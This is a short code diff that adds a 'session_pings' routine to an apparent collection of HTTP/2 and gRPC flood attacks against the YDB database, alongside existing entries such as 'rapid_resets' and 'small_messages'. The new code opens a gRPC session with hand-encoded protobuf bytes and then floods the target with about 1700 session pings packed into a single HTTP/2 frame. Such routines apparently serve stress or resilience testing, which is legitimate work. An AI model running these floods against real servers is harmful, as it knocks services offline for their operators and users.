@@ -19,6 +19,7 @@ __all__ = [
     "pings",
     "priorities",
     "rapid_resets",
+    "session_pings",
     "settings",
     "small_messages",
     "window_updates",
@@ -46,6 +47,8 @@ _CALL = [
 ]
 _BLOCK = Encoder().encode(_CALL)
 _AT_ONCE = 100  # calls in a write
+_SESSION_START = b"\x1a\x13\n\x0e/local/default\x18\x90N"  # of YDB's API, for 10 s
+_SESSION_PING = b"\n\x02\x08\x07"
 
 
 def _open(stream: int, flags: int = _END_HEADERS, block: bytes = _BLOCK) -> bytes:
@@ -120,3 +123,15 @@ def calls(target: Target) -> None:
 def small_messages(target: Target) -> None:
     """Send empty requests on a call, thousands in a frame."""
     target.flood("ydb", _BEGIN + _open(1), h2_frame(_DATA, 0, 1, bytes(5) * 3000))
+
+
+def session_pings(target: Target) -> None:
+    """Attach a session, and send its pings, thousands in a frame."""
+    start = h2_frame(_DATA, 0, 1, _message(_SESSION_START))
+    pings = h2_frame(_DATA, 0, 1, _message(_SESSION_PING) * 1700)
+    target.flood("ydb", _BEGIN + _open(1) + start, pings)
+
+
+def _message(body: bytes) -> bytes:
+    """One message of gRPC."""
+    return b"\x00" + struct.pack(">I", len(body)) + body
